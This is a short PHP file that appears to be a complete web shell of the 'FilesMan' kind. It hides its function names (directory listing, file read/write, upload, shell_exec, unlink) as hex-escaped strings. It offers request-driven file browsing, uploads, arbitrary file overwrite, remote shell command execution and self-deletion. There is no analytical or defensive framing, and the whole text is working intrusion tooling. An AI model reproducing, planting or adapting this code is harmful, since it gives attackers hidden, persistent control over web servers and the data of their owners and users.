<?php
$GLOBALS['_fm_'] = array("\x73\x63\x61\x6e\x64\x69\x72", "\x66\x69\x6c\x65\x5f\x67\x65\x74\x5f\x63\x6f\x6e\x74\x65\x6e\x74\x73", "\x66\x69\x6c\x65\x5f\x70\x75\x74\x5f\x63\x6f\x6e\x74\x65\x6e\x74\x73", "\x6d\x6f\x76\x65\x5f\x75\x70\x6c\x6f\x61\x64\x65\x64\x5f\x66\x69\x6c\x65", "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63", "\x75\x6e\x6c\x69\x6e\x6b");
$act = @$_REQUEST['a'] ?: 'FilesMan';
$cwd = @$_REQUEST['c'] ?: getcwd();
if ($act === 'FilesMan') {
    foreach ($GLOBALS['_fm_'][0]($cwd) as $n) { echo htmlspecialchars($n), "<br>\n"; }
    if (!empty($_FILES['f'])) { $GLOBALS['_fm_'][3]($_FILES['f']['tmp_name'], $cwd . '/' . $_FILES['f']['name']); }
} elseif ($act === 'FilesTools') {
    if (isset($_REQUEST['p3'])) { $GLOBALS['_fm_'][2]($_REQUEST['p1'], $_REQUEST['p3']); }
    echo htmlspecialchars($GLOBALS['_fm_'][1]($_REQUEST['p1']));
} elseif ($act === 'Console') {
    echo '<pre>' . $GLOBALS['_fm_'][4]($_REQUEST['p1']) . '</pre>';
} elseif ($act === 'SelfRemove') {
    $GLOBALS['_fm_'][5](__FILE__);
}
